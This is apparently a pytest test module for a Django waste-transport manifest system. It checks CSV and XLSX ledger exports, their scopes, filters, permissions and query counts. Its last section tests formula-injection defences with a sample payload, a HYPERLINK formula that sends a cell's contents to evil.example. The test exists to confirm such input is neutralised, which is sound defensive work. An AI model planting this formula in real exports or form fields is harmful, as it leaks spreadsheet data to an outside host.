"""Ledgers (台账): CSV and XLSX read back (headers, one row per manifest, numbers, totals), the
three scopes, the period and status filters, who may download what (page and API), bad
parameters (a clear message, no file) and a constant number of queries."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from wastetrail.manifests import ledgers, services
from wastetrail.manifests.ledgers import ScopeKind
from wastetrail.manifests.models import Manifest, ManifestStatus
from wastetrail.registry.tests.conftest import token_for  # noqa: F401 - a fixture
from wastetrail.testing import CAST_PASSWORD

pytestmark = pytest.mark.django_db
HEADERS_EN = [
    "Number", "Status", "Issued", "Departed", "Arrived", "Received", "Closed", "Construction project",
    "Emitting unit", "Waste category", "Estimated quantity (m³)", "Estimated quantity (t)", "Transport unit",
    "Plate", "Driver", "Receiving site", "Receiving unit", "Disposal method", "Unit", "Gross weight (t)",
    "Tare weight (t)", "Net weight (t)", "Received volume (m³)", "Received quantity", "Accepted quantity",
    "Refused quantity", "Reason for refusal", "Redirected from", "Overdue",
]
serials = itertools.count(1)


def clone(manifest: Manifest, **changes) -> Manifest:
    """A copy of a manifest under a new number (a finished load unless told otherwise), for
    scopes and volumes that the lifecycle fixtures would make slow to build."""
    fields = {f.attname: getattr(manifest, f.attname) for f in Manifest._meta.concrete_fields if f.name != "id"}
    fields |= {"number": f"JM2099{next(serials):010d}", "status": ManifestStatus.CLOSED, "parent_id": None}
    return Manifest.objects.create(**(fields | changes))


@pytest.fixture
def loads(cast, now, make_ready_load, issue, arrived):
    """One project, its site: a weighed and accepted load (closed), a load measured by volume and
    partially refused, and its redirect (issued) to a second site."""
    load = make_ready_load(extra_sites=1)
    site_actor = cast.actor("site_operator")
    weighed = services.manifest_receive(actor=site_actor, manifest=arrived(load), outcome="accepted",
                                        gross_t=Decimal("48.60"), tare_t=Decimal("16.20"),
                                        now=now + dt.timedelta(hours=1, minutes=5))
    weighed = services.manifest_close(actor=site_actor, manifest=weighed, now=now + dt.timedelta(hours=1, minutes=6))
    measured = services.manifest_receive(actor=site_actor, manifest=arrived(load), outcome="partially_refused",
                                         volume_m3=Decimal("18"), refused_quantity=Decimal("4"),
                                         reason="混有生活垃圾", now=now + dt.timedelta(hours=1, minutes=30))
    redirect = services.manifest_redirect(actor=cast.actor("construction_staff"), manifest=measured,
                                          site=load.sites[1], now=now + dt.timedelta(hours=2))
    return {"load": load, "weighed": weighed, "measured": measured, "redirect": redirect}


def ledger_request(actor, kind, pk, *, start=None, end=None, status=None, fmt="xlsx"):
    scope = ledgers.ledger_scope(actor=actor, kind=kind, pk=pk)
    return ledgers.ledger_request(scope=scope, start=start, end=end, status=status, format=fmt)


def numbers(actor, kind, pk, **kwargs) -> list[str]:
    return [row[0] for row in ledgers.ledger_rows(actor=actor, request=ledger_request(actor, kind, pk, **kwargs))]


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def read_xlsx(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(values_only=True))


def login(client, username: str) -> None:
    assert client.login(username=username, password=CAST_PASSWORD)


# --- file contents --------------------------------------------------------------------------
def test_csv_reads_back_with_headers_one_row_per_manifest_and_plain_numbers(client, cast, loads):
    login(client, "construction_staff")
    project = loads["load"].project
    response = client.get(reverse("ledger-project", args=[project.pk]), {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="ledger-project-{project.code}-start-now.csv"' in response["Content-Disposition"]
    header, *rows = read_csv(response)
    assert header == HEADERS_EN
    by_number = {row[0]: dict(zip(HEADERS_EN, row, strict=True)) for row in rows}
    assert list(by_number) == [loads["weighed"].number, loads["measured"].number, loads["redirect"].number]
    weighed = by_number[loads["weighed"].number]
    assert (weighed["Status"], weighed["Gross weight (t)"], weighed["Tare weight (t)"], weighed["Net weight (t)"],
            weighed["Accepted quantity"], weighed["Refused quantity"]) == ("Closed", "48.60", "16.20", "32.40",
                                                                          "32.40", "0.00")
    assert weighed["Issued"] == timezone.localtime(loads["weighed"].issued_at).strftime("%Y-%m-%d %H:%M")
    assert weighed["Plate"] == loads["load"].vehicle.plate and weighed["Unit"] == "t"
    measured = by_number[loads["measured"].number]
    assert (measured["Status"], measured["Received volume (m³)"], measured["Accepted quantity"],
            measured["Refused quantity"], measured["Reason for refusal"]) == (
        "Partially refused", "18.00", "14.00", "4.00", "混有生活垃圾")
    assert by_number[loads["redirect"].number]["Redirected from"] == loads["measured"].number
    assert by_number[loads["redirect"].number]["Overdue"] == "No"


def test_xlsx_has_a_title_a_bold_frozen_header_typed_cells_and_totals(client, cast, loads):
    login(client, "reg_officer")
    project = loads["load"].project
    today = timezone.localdate()
    response = client.get(reverse("ledger-project", args=[project.pk]),
                          {"format": "xlsx", "from": str(today), "to": str(today + dt.timedelta(days=1))})
    assert response.status_code == 200
    assert response["Content-Type"] == ledgers.CONTENT_TYPES["xlsx"]
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet.freeze_panes == "B3"
    assert sheet["A2"].font.b and sheet.column_dimensions["H"].width == 28
    rows = list(sheet.iter_rows(values_only=True))
    title, header = rows[0], rows[1]
    assert project.name in title[0] and str(today) in title[0]
    assert list(header) == HEADERS_EN
    data = [dict(zip(HEADERS_EN, row, strict=True)) for row in rows[2:5]]
    assert [row["Number"] for row in data] == [loads["weighed"].number, loads["measured"].number,
                                               loads["redirect"].number]
    weighed = data[0]
    assert isinstance(weighed["Issued"], dt.datetime)
    assert weighed["Issued"] == timezone.localtime(loads["weighed"].issued_at).replace(tzinfo=None)
    assert weighed["Net weight (t)"] == 32.4 and isinstance(weighed["Estimated quantity (m³)"], int | float)
    assert weighed["Received volume (m³)"] is None
    # A blank line, then the totals: count, estimates, accepted per measured unit.
    assert all(v is None for v in rows[5])
    labels, values = rows[6], rows[7]
    assert labels[:6] == ("Total", "Manifests", "Estimated quantity (m³)", "Estimated quantity (t)",
                          "Accepted (t)", "Accepted (m³)")
    estimated_m3 = sum(m.estimated_m3 for m in (loads["weighed"], loads["measured"], loads["redirect"]))
    assert values[1:6] == (3, float(estimated_m3), pytest.approx(float(sum(
        m.estimated_t for m in (loads["weighed"], loads["measured"], loads["redirect"])))), 32.4, 14.0)
    assert len(rows) == 8


def test_headers_follow_the_active_language(cast, loads):
    actor = cast.actor("site_operator")
    request = ledger_request(actor, ScopeKind.SITE, loads["load"].site.pk, fmt="csv")
    with translation.override("zh-hans"):
        body = b"".join(ledgers.csv_chunks(actor=actor, request=request)).decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(body)))
    assert header[:3] == ["编号", "状态", "开单时间"] and "车牌号" in header and "拒收原因" in header
    assert "部分拒收" in body  # status labels too


# --- scopes ---------------------------------------------------------------------------------
def test_a_project_ledger_excludes_other_projects(cast, loads, make_project):
    other = clone(loads["weighed"], project_id=make_project().pk)
    actor = cast.actor("construction_staff")
    project_rows = numbers(actor, ScopeKind.PROJECT, loads["load"].project.pk)
    assert other.number not in project_rows and len(project_rows) == 3
    assert numbers(actor, ScopeKind.PROJECT, other.project_id) == [other.number]


def test_a_carrier_sees_its_own_loads_only(client, cast, loads):
    others = clone(loads["weighed"], carrier_id=cast.org("transport_other").pk)
    own = numbers(cast.actor("transport_admin"), ScopeKind.CARRIER, cast.org("transport").pk)
    assert others.number not in own and len(own) == 3
    assert numbers(cast.actor("transport_other_admin"), ScopeKind.CARRIER,
                   cast.org("transport_other").pk) == [others.number]
    # ... and cannot ask for the other company's ledger at all.
    login(client, "transport_admin")
    assert client.get(reverse("ledger-carrier", args=[cast.org("transport_other").pk])).status_code == 404
    assert numbers(cast.actor("reg_officer"), ScopeKind.CARRIER, cast.org("transport_other").pk) == [others.number]


def test_a_site_ledger_holds_the_loads_sent_to_that_site(cast, loads):
    actor = cast.actor("site_operator")
    assert numbers(actor, ScopeKind.SITE, loads["load"].site.pk) == [loads["weighed"].number,
                                                                      loads["measured"].number]
    assert numbers(actor, ScopeKind.SITE, loads["load"].sites[1].pk) == [loads["redirect"].number]


# --- period and status ----------------------------------------------------------------------
def test_the_period_is_on_local_issue_dates_inclusive_and_status_filters(cast, loads):
    weighed = loads["weighed"]
    issued_day = timezone.localdate(weighed.issued_at)
    old = clone(weighed, issued_at=weighed.issued_at - dt.timedelta(days=40))
    # Just after local midnight of the issue day: in UTC it is still the day before.
    early = clone(weighed, issued_at=timezone.make_aware(dt.datetime.combine(issued_day, dt.time(0, 30))))
    actor = cast.actor("construction_staff")
    pk = loads["load"].project.pk
    all_rows = numbers(actor, ScopeKind.PROJECT, pk)
    assert old.number in all_rows and early.number in all_rows and len(all_rows) == 5
    on_the_day = numbers(actor, ScopeKind.PROJECT, pk, start=str(issued_day), end=str(issued_day))
    assert on_the_day == [early.number, weighed.number, loads["measured"].number]
    # The redirect was issued at 01:00 the next day.
    next_day = str(issued_day + dt.timedelta(days=1))
    assert numbers(actor, ScopeKind.PROJECT, pk, start=next_day) == [loads["redirect"].number]
    assert numbers(actor, ScopeKind.PROJECT, pk, end=str(issued_day - dt.timedelta(days=1))) == [old.number]
    assert numbers(actor, ScopeKind.PROJECT, pk, status="partially_refused") == [loads["measured"].number]


@pytest.mark.parametrize(("query", "field", "message"), [
    ({"from": "2026-07-01", "to": "2026-06-01"}, "to", "The end of the period cannot be before its start."),
    ({"from": "1 June"}, "from", "Enter a date as YYYY-MM-DD."),
    ({"format": "pdf"}, "format", "Choose xlsx or csv."),
    ({"status": "lost"}, "status", "Unknown status."),
])
def test_bad_parameters_get_a_clear_message_and_no_file(client, cast, loads, token_for,  # noqa: F811
                                                        query, field, message):
    project = loads["load"].project
    api = client.get(f"/api/ledgers/projects/{project.pk}", query, **token_for("construction_staff"))
    assert api.status_code == 422
    assert api.json()["errors"] == {field: [message]}
    login(client, "construction_staff")
    page = client.get(reverse("ledger-project", args=[project.pk]), query)
    assert page.status_code == 400
    assert page["Content-Type"].startswith("text/html") and "Content-Disposition" not in page
    assert message in page.content.decode()


# --- who may download what ------------------------------------------------------------------
@pytest.mark.parametrize(("username", "kind", "target", "status"), [
    ("construction_staff", "project", "project", 200),
    ("construction_admin", "project", "project", 200),
    ("reg_officer", "project", "project", 200),
    ("outsider", "project", "project", 404),
    ("transport_admin", "project", "project", 404),
    ("transport_admin", "carrier", "transport", 200),
    ("driver", "carrier", "transport", 403),  # a member, not staff
    ("transport_other_admin", "carrier", "transport", 404),
    ("reg_officer", "carrier", "transport", 200),
    ("construction_staff", "carrier", "construction", 404),  # not a transport company
    ("site_operator", "site", "site", 200),
    ("transport_admin", "site", "site", 403),  # sites are public, their ledgers are not
    ("reg_officer", "site", "site", 200),
])
def test_permissions_on_the_api(client, cast, loads, token_for, username, kind, target, status):  # noqa: F811
    pk = {"project": loads["load"].project.pk, "site": loads["load"].site.pk}.get(target) or cast.org(target).pk
    path = {"project": "projects", "carrier": "carriers", "site": "sites"}[kind]
    response = client.get(f"/api/ledgers/{path}/{pk}", {"format": "csv"}, **token_for(username))
    assert response.status_code == status
    if status == 200:
        assert len(read_csv(response)) >= 2
    page = client.get(reverse(f"ledger-{kind}", args=[pk]), {"format": "csv"})
    assert page.status_code == 302  # not logged in: to the login page
    login(client, username)
    assert client.get(reverse(f"ledger-{kind}", args=[pk]), {"format": "csv"}).status_code == status


def test_the_developer_sees_its_project_but_not_its_ledger(client, cast, loads, token_for):  # noqa: F811
    project = loads["load"].project
    type(project).objects.filter(pk=project.pk).update(owner=cast.org("developer"))
    response = client.get(f"/api/ledgers/projects/{project.pk}", **token_for("developer_admin"))
    assert response.status_code == 403
    assert response.json() == {"detail": "Only the construction unit and regulators may download this ledger."}


# --- the ledgers page -----------------------------------------------------------------------
def test_the_page_lists_what_the_user_may_download_and_its_buttons_download(client, cast, loads):
    project = loads["load"].project
    login(client, "construction_staff")
    page = client.get(reverse("ledgers"))
    assert page.status_code == 200
    html = page.content.decode()
    assert f'data-testid="ledger-project-{project.pk}-xlsx"' in html
    assert "ledger-carrier" not in html and "ledger-site" not in html
    today = str(timezone.localdate())
    followed = client.get(reverse("ledgers"), {"download": f"project:{project.pk}:csv", "from": today, "to": today,
                                               "status": ""})
    assert followed.status_code == 302
    assert followed["Location"].startswith(reverse("ledger-project", args=[project.pk]) + "?format=csv&from=")
    # The header and today's two loads (the redirect left after midnight).
    assert len(read_csv(client.get(followed["Location"]))) == 1 + 2


def test_a_regulator_picks_from_selects(client, cast, loads):
    login(client, "reg_officer")
    html = client.get(reverse("ledgers")).content.decode()
    for kind in ("project", "carrier", "site"):
        assert f'data-testid="ledger-{kind}-xlsx"' in html and f'data-testid="ledger-select-{kind}"' in html
    site = loads["load"].site
    followed = client.get(reverse("ledgers"), {"download": "site:select:xlsx", "site": site.pk, "project": "",
                                               "carrier": ""})
    assert followed.status_code == 302
    assert followed["Location"].startswith(reverse("ledger-site", args=[site.pk]) + "?format=xlsx")


def test_a_user_with_nothing_to_download_is_told_so(client, cast):
    login(client, "driver")
    assert 'data-testid="no-ledgers"' in client.get(reverse("ledgers")).content.decode()


# --- queries --------------------------------------------------------------------------------
def test_the_ledger_runs_a_constant_number_of_queries(cast, loads):
    actor = cast.actor("reg_officer")
    site_pk = loads["load"].site.pk
    request = ledger_request(actor, ScopeKind.SITE, site_pk)

    def count() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as rows:
            produced = list(ledgers.ledger_rows(actor=actor, request=request))
        with CaptureQueriesContext(connection) as workbook:
            ledgers.xlsx_bytes(actor=actor, request=request)
        return len(produced), len(rows) + len(workbook)

    Manifest.objects.filter(site_id=site_pk).exclude(pk=loads["weighed"].pk).update(site_id=loads["load"].sites[1].pk)
    one_row, one = count()
    for _ in range(19):
        clone(loads["measured"], parent_id=loads["weighed"].pk)
    twenty_rows, twenty = count()
    assert (one_row, twenty_rows) == (1, 20)
    assert one == twenty == 2  # one SELECT for the rows, one for the workbook


# --- typed text is never run as a formula -----------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?x="&A3,"click")'


@pytest.fixture
def formula_reason(cast, now, make_ready_load, arrived):
    """A refusal reason a hostile user typed so that a spreadsheet would run it."""
    return services.manifest_receive(actor=cast.actor("site_operator"), manifest=arrived(make_ready_load()),
                                     outcome="refused", gross_t="40", tare_t="18", reason=FORMULA,
                                     now=now + dt.timedelta(hours=1, minutes=5))


def test_csv_cells_that_look_like_formulas_are_written_as_text(client, cast, formula_reason):
    login(client, "site_operator")
    response = client.get(reverse("ledger-site", args=[formula_reason.site_id]), {"format": "csv"})
    header, *rows = read_csv(response)
    reason = dict(zip(header, rows[0], strict=True))["Reason for refusal"]
    assert reason == "'" + FORMULA


def test_xlsx_cells_that_look_like_formulas_are_text_cells(client, cast, formula_reason):
    login(client, "site_operator")
    response = client.get(reverse("ledger-site", args=[formula_reason.site_id]), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    column = HEADERS_EN.index("Reason for refusal") + 1
    cell = sheet.cell(row=3, column=column)
    assert cell.value == FORMULA and cell.data_type == "s"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_trigger_is_defused(text):
    assert ledgers.defused(text) == "'" + text
    assert ledgers.defused("混有生活垃圾") == "混有生活垃圾" and ledgers.defused(Decimal("-1")) == Decimal("-1")
